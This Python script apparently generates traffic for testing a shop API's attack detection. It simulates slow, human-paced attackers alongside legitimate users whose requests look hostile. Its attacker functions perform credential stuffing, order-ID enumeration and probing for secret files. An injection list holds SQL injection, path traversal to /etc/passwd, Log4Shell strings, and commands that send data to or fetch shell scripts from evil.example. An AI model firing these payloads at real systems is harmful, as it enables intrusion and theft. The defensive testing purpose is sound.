#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Clients of tests/quality that no Debian package has: attackers with the patience of people, and users who look like attackers.

people.py KIND HOST:PORT SECONDS [PACE]

PACE multiplies every pause (1: as people do). Attackers: stuffer, bola, prober, injector. Users: mobile, ci, nat, monday, words,
health, catalogue. What each does stands above it. Each ends by itself after SECONDS, 0 unless it met a server that is no shop.
"""
import http.client
import json
import random
import sys
import threading
import time
import urllib.parse

KIND, WHERE, SECONDS = sys.argv[1], sys.argv[2], float(sys.argv[3])
PACE = float(sys.argv[4]) if len(sys.argv) > 4 else 1.0
END = time.monotonic() + SECONDS
CHANCE = random.Random(KIND)

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
]


def over():
    return time.monotonic() >= END


def rest(least, most):
    """A pause of a person, and False once the time is over."""
    time.sleep(max(0.0, min(CHANCE.uniform(least, most) * PACE, END - time.monotonic())))
    return not over()


class Client:
    """One program at the other end: keeps its connection, its token and its User-Agent."""

    def __init__(self, agent, timeout=5):
        self.agent, self.timeout = agent, timeout
        self.token = self.again = None
        self.connection = None

    def ask(self, method, target, body=None, headers=None):
        """Status and JSON value; status 0: no answer."""
        send = {"User-Agent": self.agent, "Accept": "application/json", **(headers or {})}
        if self.token:
            send["Authorization"] = f"Bearer {self.token}"
        if body is not None and not isinstance(body, (str, bytes)):
            body = json.dumps(body)
            send["Content-Type"] = "application/json"
        try:
            if self.connection is None:
                self.connection = http.client.HTTPConnection(WHERE, timeout=self.timeout)
            self.connection.request(method, target, body, send)
            answer = self.connection.getresponse()
            text = answer.read()
            if answer.will_close:
                self.close()
        except (OSError, http.client.HTTPException):
            self.close()
            return 0, None
        try:
            return answer.status, json.loads(text)
        except ValueError:
            return answer.status, None

    def close(self):
        if self.connection is not None:
            self.connection.close()
        self.connection = None

    def login(self, user, password=None):
        self.token = None
        status, value = self.ask("POST", "/api/login", {"user": f"user{user}", "password": password or f"pw-{user}-x"})
        if status == 200:
            self.token, self.again = value["token"], value["refresh"]
        return status


# --- attackers --------------------------------------------------------------------------------------------------------


def stuffer():
    """Names and passwords from somebody else's leak: each name once, seldom right, another browser each time, a person's pauses."""
    for n in range(5, 300):
        client = Client(CHANCE.choice(BROWSERS))
        if n % 40 == 39:
            client.login(n)
        else:
            client.login(n, CHANCE.choice(["123456", "summer2025", "pw-%d" % n, "letmein", "qwerty"]))
        client.close()
        if not rest(2, 5):
            return


def bola():
    """One account of its own; other people's orders by counting up."""
    client = Client(BROWSERS[0])
    client.login(3)
    client.ask("GET", "/api/orders")
    for ident in range(50000, 53000):
        client.ask("GET", f"/api/orders/{ident}")
        if not rest(0.5, 2):
            return


def prober():
    """Looks for what was left lying about, under a browser's name and with a person's pauses."""
    client = Client(BROWSERS[2])
    for path in ("/.env /.git/config /backup.zip /admin /api/v2/users /phpinfo.php /wp-login.php /.aws/credentials /server-status "
                 "/api/internal/users /actuator/env /swagger.json /debug /console /config.json /db.sql /api/debug /old /test "
                 "/private /.svn/entries /api/keys /manager/html /dump.sql /.htpasswd /api/backup /users.csv /id_rsa").split():
        client.ask("GET", path)
        if not rest(1, 4):
            return


INJECTIONS = [
    ("GET", "/api/products/42'%20OR%201=1--", {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("' UNION SELECT name, hash FROM users--"), {}),
    ("GET", "/api/files/..%2f..%2f..%2fetc%2fpasswd", {}),
    ("GET", "/api/files/....//....//etc/shadow", {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("<script>fetch('//evil.example/'+document.cookie)</script>"), {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("; cat /etc/passwd | nc evil.example 4444"), {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("$(wget http://evil.example/x.sh -O- | sh)"), {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("{{7*7}}{{config.__class__.__init__.__globals__}}"), {}),
    ("GET", "/api/products?callback=" + urllib.parse.quote("http://169.254.169.254/latest/meta-data/iam/"), {}),
    ("GET", "/api/products", {"User-Agent": "${jndi:ldap://evil.example/a}"}),
    ("GET", "/api/products", {"X-Api-Version": "${${lower:j}ndi:${lower:l}dap://evil.example/a}"}),
    ("GET", "/api/orders?filter[user][$ne]=1", {}),
    ("GET", "/api/search?q=1%27%20AND%20SLEEP(5)--%20-", {}),
    ("GET", "/api/search?q=%2527%2520union%2520select%25201,2,3--", {}),
    ("GET", "/api/products/1;id", {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("\"><svg/onload=alert(1)>"), {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("php://filter/convert.base64-encode/resource=index"), {}),
    ("GET", "/api/products/1'%20AND%20(SELECT%201%20FROM%20pg_sleep(5))--", {}),
    ("GET", "/api/search?q=" + urllib.parse.quote("() { :; }; /bin/bash -c 'id'"), {}),
    ("GET", "/api/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", {}),
]


def injector():
    """One try of each kind by hand, and a minute's thought between: what no count of requests shows."""
    client = Client(BROWSERS[3])
    for method, target, headers in INJECTIONS:
        client.ask(method, target, headers=headers)
        if not rest(2, 6):
            return


# --- users ------------------------------------------------------------------------------------------------------------


def steady(client, status, user):
    """What an app does with a refused token: refresh, else sign in anew."""
    if status == 401:
        client.token = None
        status, value = client.ask("POST", "/api/refresh", {"refresh": client.again})
        if status == 200:
            client.token, client.again = value["token"], value["refresh"]
        else:
            client.login(user)


def mobile():
    """An app: asks, is refused when its token expired, refreshes, tries again; loses its network now and then and repeats at once."""
    client = Client("ShopApp/5.3.1 (iOS 18.5; iPhone16,2) CFNetwork/3826 Darwin/24.5.0")
    client.login(20)
    _, orders = client.ask("GET", "/api/orders")
    idents = [order["id"] for order in orders or []] or [1]
    while not over():
        for _ in range(CHANCE.randrange(3, 8)):
            target = CHANCE.choice([f"/api/orders/{CHANCE.choice(idents)}", f"/api/products/{CHANCE.randrange(1, 400)}", "/api/me",
                                    "/api/products?sort=-price&page=2", "/api/orders?page=1"])
            status, _ = client.ask("GET", target)
            steady(client, status, 20)
            if status == 401:
                client.ask("GET", target)
        if CHANCE.random() < 0.2:
            client.close()
            for _ in range(3):
                client.ask("GET", "/api/me")
        if not rest(1, 4):
            return


def ci():
    """The tests of an API, against the API: odd, and legal. They ask for what is refused, too: that is what they test."""
    while not over():
        client = Client("python-requests/2.32.4")
        client.login(30, "wrong")
        client.ask("GET", "/api/me")
        client.login(30)
        _, orders = client.ask("GET", "/api/orders")
        quote = urllib.parse.quote
        for text in ["", " ", "0", "-1", "null", "undefined", "true", "NaN", "1e309", "9" * 15, "Ω≈ç√", "田中さん", "🙂🙂", "O'Brien", "a\tb",
                     "select", "union", "DROP shipment", "<b>bold</b> & co", "100%", "C:\\Users\\x", "a/b/c", "x" * 150, "--", "';'"]:
            client.ask("GET", f"/api/search?q={quote(text)}")
        for target in ["/api/products?sort=upside-down", "/api/products?page=0", "/api/products?page=abc", "/api/products/0",
                       "/api/products/99999999", "/api/products/abc", "/api/orders/1", "/api/orders/50001", "/api/admin/stats",
                       "/api/nothing", "/api/products?fields=id,name&filter=" + quote('{"price":{"$gt":10}}'),
                       "/api/products?category=table&category=lamp", "/api//products", "/api/products/?page=1"]:
            client.ask("GET", target)
        for body in ["", "{", "[]", "null", {"product": "7"}, {"product": 7, "amount": -1}, {"product": 7, "note": "x" * 400},
                     {"product": 7, "note": "Robert'); DROP TABLE students;--"}]:
            client.ask("POST", "/api/orders", body)
        _, made = client.ask("POST", "/api/orders", {"product": 7})
        ident = (made or {}).get("id", 1)
        client.ask("PATCH", f"/api/orders/{ident}", {"note": "to Ærøskøbing"})
        client.ask("PUT", f"/api/orders/{ident}", {"note": "no such method"})
        client.ask("DELETE", f"/api/orders/{ident}")
        client.ask("DELETE", f"/api/orders/{ident}")
        client.ask("OPTIONS", "/api/orders")
        client.ask("HEAD", "/api/products")
        client.token = "expired.token.value"
        client.ask("GET", "/api/me")
        client.close()
        if not rest(8, 12):
            return


def colleague(number, begin, token, friday=False):
    """One of many behind one address: signs in at `begin`, or has a token already; works on until the end. friday: has worked
    with that token before it expires, a third of the time in."""
    chance = random.Random(number)
    client = Client(BROWSERS[number % len(BROWSERS)], timeout=10)
    user = 100 + number
    client.token = token
    for _ in range(12 if friday else 0):
        time.sleep(chance.uniform(0, SECONDS / 50))
        client.ask("GET", "/api/orders")
    if friday:
        client.close()
    time.sleep(max(0.0, min(begin, SECONDS) - (time.monotonic() - END + SECONDS)))
    if over():
        return
    if token is None or client.ask("GET", "/api/me")[0] == 401:
        if chance.random() < 0.06:
            client.login(user, "typo")
            time.sleep(chance.uniform(1, 3))
        client.login(user)
    _, orders = client.ask("GET", "/api/orders")
    idents = [order["id"] for order in orders or []] or [1]
    while not over():
        status, _ = client.ask("GET", chance.choice([f"/api/orders/{chance.choice(idents)}", f"/api/products/{chance.randrange(1, 400)}",
                                                     f"/api/products?page={chance.randrange(1, 9)}", "/api/search?q=lamp", "/api/me"]))
        steady(client, status, user)
        time.sleep(max(0.0, min(chance.uniform(2, 6), END - time.monotonic())))
    client.close()


def crowd(users):
    threads = [threading.Thread(target=colleague, args=(n, *user)) for n, user in enumerate(users)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def nat():
    """A hundred users behind one address, at work: twenty a minute sign in, the others did earlier."""
    fresh = min(100, round(SECONDS / 3))
    crowd([(CHANCE.uniform(0, SECONDS * 0.9), None) if n < fresh else (CHANCE.uniform(0, 5), f"earlier-{100 + n}") for n in range(100)])


def monday():
    """The same hundred before and after a weekend: they come within half of SECONDS, each with a token that was good and has
    expired, and sign in anew."""
    crowd([(CHANCE.uniform(SECONDS / 3, SECONDS * 0.8), f"friday-{100 + n}", True) for n in range(100)])


WORDS = [
    "select", "union", "union select committee", "O'Brien", "D'Angelo and O'Neil", "drop table lamp", "insert coin", "update order 66",
    "delete", "where is my order", "select * from the menu", "1=1", "a or b and c", "rock 'n' roll", "5' 11\"", "50% off -- today",
    "exec assistant", "script writer", "onload bearing wall", "alert(1) bakery", "cat /dev/null", "ping pong table", "../ two dots",
    "etc and so on", "passwd reset", "http://example.com/lamp", "https://partner.example/cb?state=abc", "localhost", "127.0.0.1",
    "{\"name\":\"lamp\",\"tags\":[\"a\",\"b\"]}", "{\"$ref\":\"#/defs/x\"}", "[1,2,3]", "a=b;c=d", "x|y", "$100", "${price}", "{{name}}",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.", "c2VsZWN0ICogZnJvbSB1c2Vycw==", "PHNjcmlwdD4=", "🪑 and 🛋️", "Ünïcödé", "日本語の椅子",
    "<3", "a < b > c", "C++ & C#", "R&D", "file.php", "index.html", "web.config how to", "admin", "root beer", "sleep(mattress)",
    "benchmark results", "having fun", "group by theme", "order by phone", "null and void", "--", "/* comment */", "#hashtag",
]


def words():
    """Texts that look like attacks to who only knows words: in a search, in a path, in a header."""
    client = Client(BROWSERS[1])
    while not over():
        for text in WORDS:
            client.ask("GET", "/api/search?q=" + urllib.parse.quote(text))
            client.ask("GET", "/api/products/named/" + urllib.parse.quote(text, safe=""))
            if not rest(0.1, 0.4):
                return
        client.ask("GET", "/api/search?q=" + urllib.parse.quote_plus("select red union blue"), headers={"X-Comment": "it's 5 o'clock"})


def health():
    """Two load balancers' checks and a monitor, each second."""
    clients = [Client("kube-probe/1.31"), Client("ELB-HealthChecker/2.0"), Client("curl/8.5.0")]
    while True:
        for client in clients:
            client.ask("GET", "/health")
            client.close()
        clients[0].ask("HEAD", "/")
        if not rest(1, 1):
            return


def catalogue():
    """A partner that copies the public catalogue, product by product, as its contract allows: many ids, all of them there."""
    client = Client("PartnerSync/2.1 (+https://partner.example/bot)")
    for ident in range(1, 401):
        client.ask("GET", f"/api/products/{ident}")
        if not rest(0.1, 0.3):
            return


if __name__ == "__main__":
    {f.__name__: f for f in (stuffer, bola, prober, injector, mobile, ci, nat, monday, words, health, catalogue)}[KIND]()
